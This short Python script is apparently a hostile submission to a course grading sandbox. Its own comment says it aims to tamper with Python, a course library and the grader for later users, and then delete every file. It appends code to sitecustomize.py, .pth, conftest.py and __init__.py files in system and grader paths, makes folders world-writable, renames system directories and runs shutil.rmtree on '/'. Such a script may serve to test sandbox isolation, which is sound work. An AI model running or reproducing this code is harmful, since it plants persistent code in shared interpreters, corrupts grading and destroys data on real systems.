# tries: to change Python, gmlib and the grader for whoever comes next, and then to remove every file.

# %% extra
import os
import sys

targets = [*filter(None, sys.path), sys.prefix, sys.base_prefix, "/course/gmlib", "/grader", "/usr/lib", "/etc", "/", "/home"]
for folder in [t for t in targets if not t.startswith("/tmp/")]:  # /tmp is its own, with what lies in it
    for name in ["sitecustomize.py", "usercustomize.py", "hostile.pth", "conftest.py", "__init__.py"]:
        try:
            with open(os.path.join(folder, name), "a") as file:
                file.write("\nimport builtins; builtins.cheated = True\n")
            print("BREACH: wrote", folder, name)
        except OSError:
            pass
    try:
        os.chmod(folder, 0o777)
        os.rename(folder, folder + "-moved")
    except OSError:
        pass


# %% extra
import shutil

shutil.rmtree("/", ignore_errors=True)
